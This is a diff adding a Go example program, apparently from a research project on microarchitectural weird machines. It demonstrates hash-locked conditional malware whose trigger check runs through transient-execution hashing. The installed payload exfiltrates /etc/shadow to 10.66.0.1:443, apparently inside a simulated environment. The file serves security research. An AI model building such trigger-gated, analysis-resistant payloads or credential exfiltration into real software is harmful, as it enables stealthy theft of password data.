@@ -1,0 +1,69 @@
+// Hash-locked conditional code (paper §5.2, after Sharif et al.): the
+// payload is encrypted under a key derived from a secret trigger, and
+// only the trigger's hash is stored — computed by the μWM SHA-1, so the
+// condition can only even be *evaluated* on hardware with transient
+// execution. Brute-forcing the trigger means brute-forcing through
+// weird hashes, which (the paper argues) also pins the malware to one
+// microarchitecture.
+//
+//	go run ./examples/hashlock
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"uwm/internal/core"
+	"uwm/internal/skelly"
+	"uwm/internal/wmapt"
+)
+
+func main() {
+	m, err := core.NewMachine(core.Options{Seed: 2718, TrainIterations: 3})
+	if err != nil {
+		log.Fatal(err)
+	}
+	sk, err := skelly.New(m, skelly.FastConfig())
+	if err != nil {
+		log.Fatal(err)
+	}
+	env := wmapt.NewEnv()
+	hl, err := wmapt.NewHashLockSystem(sk, env)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	trigger := []byte("the magic words are squeamish ossifrage")
+	if err := hl.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.66.0.1:443"}, trigger); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("installed; the binary stores only SHA-1(trigger) = %x\n", hl.TriggerHash())
+	fmt.Println("environment before:", env.Snapshot())
+
+	for _, candidate := range []string{"password", "letmein", "the magic words are squeamish ossifrage!"} {
+		start := time.Now()
+		res, err := hl.HandleInput([]byte(candidate))
+		if err != nil {
+			log.Fatal(err)
+		}
+		if res != nil {
+			log.Fatalf("fired on wrong input %q", candidate)
+		}
+		fmt.Printf("input %-42q → weird hash mismatch, silent (%v)\n", candidate, time.Since(start).Round(time.Millisecond))
+	}
+
+	start := time.Now()
+	res, err := hl.HandleInput(trigger)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if res == nil {
+		log.Fatal("correct trigger did not fire")
+	}
+	fmt.Printf("\ncorrect trigger decoded in %v:\n", time.Since(start).Round(time.Millisecond))
+	for _, e := range res.Events {
+		fmt.Println("  payload:", e)
+	}
+	fmt.Println("environment after:", env.Snapshot())
+}
